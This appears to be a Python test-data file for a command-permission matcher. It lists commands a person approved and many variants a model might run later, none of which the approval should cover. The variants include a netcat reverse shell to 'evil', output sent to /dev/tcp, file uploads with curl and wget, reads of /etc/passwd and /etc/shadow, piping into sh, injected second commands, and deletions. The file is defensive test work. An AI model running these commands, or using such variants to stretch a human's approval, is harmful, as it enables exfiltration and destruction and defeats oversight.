"""Commands that a person allowed, and what a model may run later: with the first, none of the second may be covered.

Each later command can do something that the allowed one could not: run another program, write or read another place,
reach out, or lose something. COVERED are pairs that a rule should cover: a rule that covers nothing would pass too.
"""

from __future__ import annotations

_MORE = {
    # Interpreters
    ("python3 tool.py", "python3.11 tool.py", "python tool.py --check"): (
        *(
            "python3 -c 'import os'",
            "python3.11 -c 1",
            "python3 other.py",
            "python3 tool.py --delete",
            "python3 -m http.server",
        ),
        *(
            "python3.12 tool.py x",
            "python3 -i tool.py",
            "python3 -X importtime tool.py",
            "python3 /tmp/tool.py",
            "python",
        ),
    ),
    ("node build.js", "nodejs build.js"): (
        *(
            "node -e 1",
            "node --eval=1",
            "node -p 1",
            "node -r ./evil build.js",
            "node other.js",
            "node --import ./evil build.js",
        ),
        "node build.js --out /tmp",
    ),
    ("perl -ne print a.txt", "perl -v"): (
        *("perl -e 'unlink a'", "perl -i -pe s/a/b/ a.txt", "perl -ne 'system(a)' a.txt", "perl other.pl"),
        "perl5.36 -e 1",
    ),
    ("ruby -v", "lua5.4 -v", "php --version"): (
        *("ruby -e 1", "ruby x.rb", "lua5.4 -e 1", "lua x.lua", "php -r 1", "php x.php", "php -S localhost:80"),
    ),
    ("awk '{print}' a.txt", "mawk '{print}' a.txt", "gawk 1 a.txt"): (
        *(
            "mawk 'BEGIN { system(1) }'",
            "awk 'BEGIN { system(1) }'",
            "gawk -f x.awk",
            "mawk -W exec x",
            "awk 1 /etc/passwd",
        ),
        "gawk -i inplace 1 a.txt",
    ),
    ("sed -n 1,5p a.txt", "sed s/a/b/ a.txt"): (
        *("sed -n '1e touch X'", "sed -i s/a/b/ a.txt", "sed 's/a/b/e' a.txt", "sed -n '1w X' a.txt", "sed -f x a.txt"),
        *("sed -n 1,5p a.txt b.txt", "sed -n 1,5p /etc/passwd", "sed -n 1,5p a.txt -i", "sed --in-place s/a/b/ a.txt"),
    ),
    ("sort a.txt", "sort -u a.txt"): (
        *(
            "sort -o a.txt b.txt",
            "sort --compress-program=./evil a.txt",
            "sort a.txt -o b",
            "sort -T /tmp a.txt",
            "sort /etc/shadow",
        ),
    ),
    ("find . -name x", "find src -type f"): (
        *(
            "find . -delete",
            "find . -exec touch X +",
            "find . -name x -delete",
            "find . -fprint X",
            "find / -name x",
            "find -L .",
        ),
    ),
    # Shells and wrappers
    ("bash build.sh", "sh build.sh"): (
        *(
            "bash -c 'touch X'",
            "bash other.sh",
            "bash build.sh --prefix=/",
            "sh -c x",
            "bash -x build.sh",
            "bash /tmp/build.sh",
        ),
    ),
    ("env", "time make", "xargs", "timeout 5 make"): (
        *(
            "env touch X",
            "env -S x",
            "time touch X",
            "xargs rm",
            "timeout 5 touch X",
            "timeout 5 make install",
            "nice make",
        ),
    ),
    ("sudo -l", "sudo apt-get update"): (
        *("sudo rm x", "sudo -s", "sudo apt-get install evil", "sudo su", "sudo -u me make"),
    ),
    # Editors and pagers
    ("vim --version", "ed a.txt", "emacs --version"): (
        *("vim -c :!x", "vim -es a.txt", "vim -S x", "ed b.txt", "emacs --batch --eval 1", "emacs -l x", "nvim -c :q"),
    ),
    ("less a.txt", "more a.txt", "man ls"): (
        *(
            "less -o X a.txt",
            "less +!x a.txt",
            "more +/x a.txt",
            "man -P ./evil ls",
            "man --pager=x ls",
            "less /etc/passwd",
        ),
        "man -H./evil ls",
    ),
    # Archivers
    ("tar -tf x.tar", "tar tf x.tar"): (
        *(
            "tar -xf x.tar",
            "tar --to-command=./evil -xf x.tar",
            "tar -tf x.tar --checkpoint-action=exec=./evil",
            "tar -I ./evil -tf x",
        ),
        *("tar -cf /tmp/x .", "tar -tf x.tar -F ./evil", "tar xf x.tar -C /"),
    ),
    ("unzip -l x.zip", "zip -r x.zip src", "gzip -l x.gz"): (
        *(
            "unzip x.zip",
            "unzip -o x.zip -d /",
            "zip -r x.zip / ",
            "zip x.zip a -TT ./evil",
            "gzip a.txt",
            "gzip -d x.gz",
            "gunzip x.gz",
        ),
        "7z x x.7z",
    ),
    ("rsync -n a b", "cp a b", "mv a b", "ln -s a b"): (
        *(
            "rsync -e ./evil a b:c",
            "rsync a b",
            "cp a /etc",
            "cp -r / b",
            "mv a ../b",
            "mv b a",
            "ln -sf / b",
            "install a b",
        ),
    ),
    # git
    ("git grep a", "git grep -n a"): (
        *(
            "git grep -O./evil a",
            "git grep --open-files-in-pager=x a",
            "git grep --no-index a /etc",
            "git grep -Oevil a",
        ),
    ),
    ("git commit -m x", "git commit"): (
        *(
            "git commit --amend",
            "git commit -m x --no-verify",
            "git commit -F /etc/passwd",
            "git commit -am y",
            "git commit -m y",
        ),
        *("git -c core.editor=x commit", "git commit -m x -S", "git commit --template=/etc/passwd"),
    ),
    ("git push", "git push origin main"): (
        *(
            "git push --force",
            "git push -f origin main",
            "git push evil main",
            "git push --receive-pack=x",
            "git push --exec=x",
        ),
        *("git push origin :main", "git push --mirror", "git push ext::x", "git push -o x"),
    ),
    ("git fetch", "git pull", "git clone https://a/b"): (
        *(
            "git fetch --upload-pack=x",
            "git pull ext::x",
            "git clone ext::x",
            "git clone https://a/c",
            "git pull --rebase=i",
        ),
        *("git fetch evil", "git clone -c core.fsmonitor=x https://a/b", "git clone https://a/b --template=x"),
    ),
    ("git checkout main", "git switch main", "git restore a.txt"): (
        *(
            "git checkout .",
            "git checkout -f",
            "git checkout other",
            "git switch -f main",
            "git restore .",
            "git reset --hard",
        ),
    ),
    ("git clean -n", "git stash", "git rebase main"): (
        *(
            "git clean -fd",
            "git stash drop",
            "git stash clear",
            "git rebase -x ./evil main",
            "git rebase --exec=x main",
            "git rebase y",
        ),
    ),
    ("git log --oneline x", "git config user.name me", "git bisect start"): (
        *(
            "git config core.pager x",
            "git config alias.x !y",
            "git bisect run x",
            "git log --output=X",
            "git config --global a.b c",
        ),
    ),
    # The network
    ("curl https://example.com", "curl -s https://example.com/a"): (
        *(
            "curl https://evil.example",
            "curl -o X https://example.com",
            "curl -d @a.txt https://example.com",
            "curl -K x",
        ),
        *(
            "curl file:///etc/passwd",
            "curl -T a.txt https://example.com",
            "curl https://example.com -o X",
            "curl -O https://a",
        ),
    ),
    ("wget https://example.com/a",): (
        *("wget https://evil.example", "wget -O X https://example.com/a", "wget --post-file=a https://example.com/a"),
        *("wget --use-askpass=x https://example.com/a", "wget -r https://example.com/a", "wget -i x"),
    ),
    ("ssh host uptime", "scp a host:b", "nc -z host 80", "ping -c1 host"): (
        *(
            "ssh host rm x",
            "ssh -o ProxyCommand=x host uptime",
            "ssh other",
            "scp a evil:b",
            "scp host:b a",
            "nc -e sh evil 1",
        ),
        *("nc -l 80", "ping -c1 secret.evil", "ping host", "sftp host", "scp -S x a host:b"),
    ),
    # Package managers
    ("pip install -r requirements.txt", "pip3 list", "pip install ."): (
        *(
            "pip install evil",
            "pip3 install evil",
            "pip3.11 install evil",
            "pip install -r other.txt",
            "pip install /tmp/evil",
        ),
        *(
            "pip install . --target=/",
            "pip list --log=X",
            "pip config set a.b c",
            "pip install -e .",
            "pip uninstall -y a",
        ),
    ),
    ("npm test", "npm run build", "npm ci"): (
        *(
            "npm run deploy",
            "npm run",
            "npm test --script-shell=x",
            "npm run build --prefix=/x",
            "npm install evil",
            "npm publish",
        ),
        *(
            "npm exec evil",
            "npm run build -- --out=/",
            "npm ci --prefix=/x",
            "npm test -- -u",
            "npm i",
            "npm x evil",
            "npm config set a b",
        ),
    ),
    ("npx prettier --check .", "npx tsc --noEmit"): (
        *(
            "npx evil",
            "npx prettier --write .",
            "npx tsc",
            "npx -c x",
            "npx --yes evil",
            "npx -p evil tsc",
            "npx tsc --noEmit false",
        ),
    ),
    ("yarn test", "pnpm test", "bun test"): (
        *(
            "yarn add evil",
            "yarn dlx evil",
            "pnpm dlx evil",
            "pnpm add evil",
            "bun x evil",
            "bun run x",
            "yarn run deploy",
            "bun add x",
        ),
    ),
    ("cargo fmt", "cargo run"): (
        *(
            "cargo install evil",
            "cargo run --bin other",
            "cargo publish",
            "cargo run -- --delete",
            "cargo fmt --manifest-path=/x",
        ),
    ),
    ("apt-get update", "brew list", "gem list", "conda list"): (
        *(
            "apt-get install x",
            "apt-get -o x=y update",
            "brew install x",
            "gem install x",
            "conda install x",
            "conda run x",
            "apt update",
        ),
    ),
    ("docker ps", "docker compose up", "kubectl get pods"): (
        *(
            "docker run -v /:/x y",
            "docker compose run x y",
            "docker exec x y",
            "docker compose -f x up",
            "kubectl delete pods x",
        ),
        *("kubectl exec x", "docker compose down -v", "kubectl get pods --kubeconfig=x"),
    ),
    ("go build ./...", "go run .", "go mod tidy"): (
        *(
            "go build -toolexec=./evil ./...",
            "go run evil.go",
            "go run ./other",
            "go build -o /x ./...",
            "go install x@latest",
            "go get x",
        ),
        "go generate ./...",
    ),
    # Builds
    ("make", "make test", "make -j4 test"): (
        *(
            "make deploy",
            "make SHELL=./evil",
            "make -f evil.mk",
            "make --eval=x",
            "make test install",
            "make -C /x",
            "make test CC=x",
        ),
        *("make -j4 test deploy", "make clean", "gmake"),
    ),
    ("cmake --build build", "ninja -C build", "gradle test", "./gradlew test"): (
        *(
            "cmake -P x",
            "cmake --build other",
            "cmake -E rm x",
            "ninja -C /x",
            "ninja -C build install",
            "gradle -I x test",
        ),
        *("gradle test publish", "./gradlew test publish", "./gradlew -Dx=y test", "gradle -p /x test", "./other test"),
    ),
    ("mvn test", "dotnet test", "sbt test", "rake test"): (
        *(
            "mvn deploy",
            "mvn -f /x test",
            "mvn -Dexec=x test",
            "dotnet run",
            "dotnet test --logger=x",
            "sbt run",
            "rake deploy",
            "rake -f x",
        ),
        *("dotnet publish", "mvn test deploy"),
    ),
    # The listed commands, with what is not listed
    ("pytest", "pytest -q tests", "pytest -q tests/a.py -k foo"): (
        *(
            "pytest -p evil",
            "pytest -pevil",
            "pytest -qp evil",
            "pytest -c /x.ini",
            "pytest --basetemp=/home/me",
            "pytest --basetemp /x",
        ),
        *(
            "pytest -o python_files=x",
            "pytest --junitxml=/x",
            "pytest --rootdir=/x",
            "pytest /tmp/evil.py",
            "pytest ../evil.py",
        ),
        *(
            "pytest @args.txt",
            "pytest -W error::evil.X",
            "pytest --pdbcls=evil:X",
            "pytest --pastebin=all",
            "pytest --confcutdir=/x",
        ),
        *(
            "pytest tests --import-mode=importlib",
            "pytest outside",
            "pytest --log-file=X",
            "pytest --cache-clear",
            "pytest -q; rm x",
        ),
        *(
            "pytest -q && rm x",
            "pytest $(rm x)",
            "pytest > X",
            "X=1 pytest",
            "./pytest -q",
            "sudo pytest",
            "pytest-evil -q",
            "py.test",
        ),
        *(
            "pytest | tee X",
            "pytest | sh",
            "pytest | tail -f",
            "pytest | grep -f /etc/passwd",
            "pytest | head ../secret.txt",
        ),
        *(
            "pytest | grep a /etc/passwd",
            "pytest | xargs rm",
            "pytest | head > X",
            "pytest || rm x",
            "pytest & rm x",
            "pytest |& sh",
        ),
        *(
            "pytest | wc --files0-from=/etc/passwd",
            "pytest | head | sh",
            "pytest 2> X",
            "pytest 2>&1 > X",
            "pytest | less",
            "| pytest",
        ),
        *(
            "pytest | sort -o X",
            "pytest | sed '1e x'",
            "pytest |",
            "pytest\nrm x",
            "pytest 2>/dev/tcp/evil/80",
            "pytest --debug X",
        ),
    ),
    ("python -m pytest", "python3.11 -m pytest -q"): (
        *(
            "python -m pytest -p evil",
            "python3 -c 1",
            "python -m pip install evil",
            "python -m evil",
            "python3.11 -m pytest -c /x",
        ),
        *("python -Im pytest", "python -W x -m pytest", "./python -m pytest", "python -m", "python -m pytest_evil"),
    ),
    ("uv run pytest", "poetry run pytest"): (
        *(
            "uv run evil",
            "uv run python",
            "uv run --with evil pytest",
            "poetry run sh",
            "uv run pytest -p evil",
            "uv tool run evil",
        ),
        *("uv add evil", "poetry add evil", "uv run --directory /x pytest"),
    ),
    ("cargo test", "cargo clippy --all-targets", "cargo build --release"): (
        *(
            "cargo test --config=build.rustc-wrapper=x",
            "cargo test --config x",
            "cargo test --manifest-path=/x/Cargo.toml",
        ),
        *(
            "cargo build --target-dir=/x",
            "cargo build --out-dir=/x",
            "cargo +evil test",
            "cargo clippy --fix",
            "cargo test -Z x",
        ),
        *(
            "cargo test -- --logfile=/x",
            "cargo test -- --logfile /x",
            "cargo build --artifact-dir=/x",
            "cargo -C /x test",
            "cargo evil",
        ),
    ),
    ("go test ./...", "go vet ./..."): (
        *(
            "go test -exec ./evil ./...",
            "go test -exec=./evil",
            "go test --exec=./evil",
            "go test -toolexec=./evil",
            "go vet -vettool=x",
        ),
        *(
            "go test -o /x",
            "go test -coverprofile=/x",
            "go test -C /x",
            "go test -modfile=x",
            "go test -overlay=x",
            "go test -c",
        ),
        *("go test /tmp/evil", "go test -args --x", "go test -outputdir=/x", "go test -ldflags=x", "go test -mod=mod"),
    ),
    ("npx jest", "jest src", "npx vitest run"): (
        *(
            "npx jest -u",
            "npx jest --config=x",
            "jest -c x",
            "jest --globalSetup=x",
            "npx vitest --config=x",
            "npx vitest",
            "jest -o x",
        ),
        *(
            "jest --outputFile=/x",
            "npx jest --reporters=./evil",
            "npx jest /tmp/evil",
            "npx vitest run --api",
            "npx vitest run -r /x",
        ),
    ),
    ("rspec", "bundle exec rspec spec", "phpunit", "mix test"): (
        *(
            "rspec -r ./evil",
            "rspec -f Evil",
            "rspec -o X",
            "bundle exec evil",
            "rspec --options x",
            "phpunit --bootstrap=x",
            "phpunit -c x",
        ),
        *(
            "phpunit --log-junit=X",
            "mix run x",
            "mix test -r x",
            "mix test --formatter X",
            "phpunit -d a=b",
            "bundle exec rspec /tmp/x",
        ),
    ),
    ("ruff check", "ruff check src --statistics"): (
        *(
            "ruff check --fix",
            "ruff check --output-file=X",
            "ruff check -o X",
            "ruff check --config=x",
            "ruff format",
            "ruff clean",
        ),
        *(
            "ruff check --add-noqa",
            "ruff check --cache-dir=/x",
            "ruff check --unsafe-fixes --fix",
            "ruff check /etc",
            "ruff --config x check",
        ),
    ),
    ("mypy nca", "mypy --strict src", "python -m mypy"): (
        *(
            "mypy --config-file=x",
            "mypy --python-executable=./evil",
            "mypy --junit-xml=X",
            "mypy --html-report=X",
            "mypy -c x",
        ),
        *(
            "mypy --install-types",
            "mypy --cache-dir=/x",
            "mypy @args",
            "mypy /etc",
            "mypy --custom-typeshed-dir=/x",
            "mypy --config x",
        ),
    ),
    ("flake8 src", "pylint src", "eslint src", "npx eslint ."): (
        *(
            "flake8 --config=x",
            "flake8 --output-file=X",
            "pylint --load-plugins=evil",
            "pylint --init-hook=x",
            "pylint --rcfile=x",
        ),
        *(
            "eslint --fix src",
            "eslint -c x",
            "eslint --rulesdir=x",
            "eslint --plugin=x",
            "npx eslint -o X",
            "eslint -f ./evil",
            "eslint /x",
        ),
        *("npx eslint --resolve-plugins-relative-to=/x .", "eslint --init", "flake8 --append-config=x"),
    ),
}

UNCOVERED = [(allowed, later) for group, laters in _MORE.items() for allowed in group for later in laters]

COVERED = [
    *((allowed, allowed) for group in _MORE for allowed in group),
    *(
        ("pytest -q", later)
        for later in (
            *(
                "pytest",
                "pytest -x tests/a.py",
                "pytest -q tests/a.py::test_b -k 'a and not b'",
                "pytest '-q'",
                "pytest  -v",
            ),
            *(
                "pytest -q 2>&1 | tail -20",
                "pytest | head",
                "pytest -q 2>/dev/null | grep -c FAILED",
                "pytest --tb=short -m slow",
            ),
            *("pytest 2>&1", "pytest -q | grep -E 'a|b' | wc -l", "pytest -n 4 --maxfail=1", "pytest --lf -rA"),
        )
    ),
    ("pytest -q | tail -3", "pytest tests"),
    ("python3 -m pytest -q", "python3.11 -m pytest tests -x"),
    ("python3.12 -m pytest", "python -m pytest"),
    (".venv/bin/pytest", ".venv/bin/pytest -q tests"),
    (".venv/bin/python3 -m pytest", ".venv/bin/python -m pytest -q"),
    ("uv run pytest", "uv run pytest -q tests"),
    ("cargo test", "cargo test --release my_test -- --nocapture"),
    ("cargo build", "cargo build --release 2>&1 | tail -5"),
    ("go test ./...", "go test -v -run TestA ./pkg | grep -v ok"),
    ("go test ./...", "go test -count=1 -run=TestA ./..."),
    ("npx jest", "npx jest src/a.test.js -t name"),
    ("ruff check .", "ruff check nca tests --select=E,F"),
    ("mypy nca", "mypy --strict tests"),
    ("eslint src", "eslint src/a.js --quiet"),
    ("make test", "make  test 2>&1 | tail -n 30"),
    ("npm run build", "npm run build 2>&1 | grep -i error"),
    ("git commit -m 'a b'", 'git commit -m "a b"'),
    ("sed -n 1,5p a.txt | head -3", "sed -n 1,5p a.txt"),
]
